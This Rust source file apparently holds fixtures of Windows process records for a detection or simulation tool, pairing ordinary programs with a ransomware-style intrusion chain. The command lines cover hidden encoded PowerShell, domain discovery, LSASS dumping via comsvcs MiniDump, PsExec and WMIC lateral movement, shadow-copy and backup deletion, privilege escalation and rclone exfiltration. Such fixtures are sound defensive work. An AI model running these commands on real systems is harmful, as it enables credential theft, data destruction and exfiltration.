//! Programs that people and attackers start on Windows.

/// A program, how it is called, and what calls it.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Program {
    pub(crate) image: &'static str,
    pub(crate) command: &'static str,
    pub(crate) parent: &'static str,
}

macro_rules! programs {
    ($($name:ident: $image:literal, $command:literal, $parent:literal;)*) => {
        $(pub(crate) static $name: Program =
            Program { image: $image, command: $command, parent: $parent };)*
    };
}

programs! {
    OUTLOOK: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", r"C:\Windows\explorer.exe";
    EXCEL: r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde", r"C:\Windows\explorer.exe";
    EDGE: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default", r"C:\Windows\explorer.exe";
    TEAMS: r"C:\Program Files\WindowsApps\MSTeams\ms-teams.exe", "ms-teams.exe", r"C:\Windows\explorer.exe";
    EXPLORER: r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Windows\System32\userinit.exe";
    SVCHOST: r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\svchost.exe -k netsvcs -p -s wuauserv", r"C:\Windows\System32\services.exe";
    SEARCH: r"C:\Windows\System32\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_", r"C:\Windows\System32\SearchIndexer.exe";
    CONHOST: r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"C:\Windows\System32\cmd.exe";
    INVENTORY: r"C:\Windows\CCM\CcmExec.exe", r"C:\Windows\CCM\CcmExec.exe", r"C:\Windows\System32\services.exe";
    GPUPDATE: r"C:\Windows\System32\gpupdate.exe", "gpupdate.exe /target:computer", r"C:\Windows\System32\svchost.exe";
    CODE: r"C:\Users\Public\VSCode\Code.exe", "\"C:\\Users\\Public\\VSCode\\Code.exe\" .", r"C:\Windows\explorer.exe";
    BACKUP_AGENT: r"C:\Program Files\Backup\Agent.exe", "\"C:\\Program Files\\Backup\\Agent.exe\" --incremental", r"C:\Windows\System32\services.exe";

    MACRO: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    WORD: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\Public\\Downloads\\invoice_2291.docm\"", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE";
    WHOAMI: r"C:\Windows\System32\whoami.exe", "whoami /all", r"C:\Windows\System32\cmd.exe";
    NET_GROUP: r"C:\Windows\System32\net.exe", "net group \"Domain Admins\" /domain", r"C:\Windows\System32\cmd.exe";
    NLTEST: r"C:\Windows\System32\nltest.exe", "nltest /dclist:northwind.example", r"C:\Windows\System32\cmd.exe";
    SYSTEMINFO: r"C:\Windows\System32\systeminfo.exe", "systeminfo", r"C:\Windows\System32\cmd.exe";
    NET_VIEW: r"C:\Windows\System32\net.exe", "net view /all /domain", r"C:\Windows\System32\cmd.exe";
    PROCDUMP: r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Windows\Temp\l.dmp full", r"C:\Windows\System32\cmd.exe";
    PSEXEC: r"C:\Users\Public\PsExec64.exe", r"PsExec64.exe -accepteula \\fs01 -s cmd.exe", r"C:\Windows\System32\cmd.exe";
    PSEXESVC: r"C:\Windows\System32\cmd.exe", "cmd.exe", r"C:\Windows\PSEXESVC.exe";
    WMIC: r"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:app01 process call create \"cmd.exe /c whoami\"", r"C:\Windows\System32\cmd.exe";
    VSSADMIN: r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe";
    WBADMIN: r"C:\Windows\System32\wbadmin.exe", "wbadmin delete catalog -quiet", r"C:\Windows\System32\cmd.exe";
    BCDEDIT: r"C:\Windows\System32\bcdedit.exe", "bcdedit /set {default} recoveryenabled no", r"C:\Windows\System32\cmd.exe";
    ENCRYPTOR: r"C:\ProgramData\upd.exe", r"C:\ProgramData\upd.exe --path C:\ --note", r"C:\Windows\System32\cmd.exe";
    POTATO: r"C:\Users\Public\gp.exe", "gp.exe -cmd \"cmd /c net localgroup administrators helpdesk1 /add\"", r"C:\Windows\System32\cmd.exe";
    SYSTEM_SHELL: r"C:\Windows\System32\cmd.exe", "cmd.exe /c whoami /priv", r"C:\Windows\System32\fodhelper.exe";
    ARCHIVER: r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a -pinfected C:\Users\Public\out.7z C:\Users\Public\Documents", r"C:\Windows\System32\cmd.exe";
    SYNC: r"C:\Users\Public\rclone.exe", "rclone.exe copy C:\\Users\\Public\\out.7z mega:drop -q", r"C:\Windows\System32\cmd.exe";
}

/// What people start in the course of a day.
pub(crate) static USUAL: [&Program; 12] = [
    &OUTLOOK,
    &EXCEL,
    &EDGE,
    &TEAMS,
    &SVCHOST,
    &SEARCH,
    &CONHOST,
    &INVENTORY,
    &GPUPDATE,
    &CODE,
    &EXPLORER,
    &BACKUP_AGENT,
];
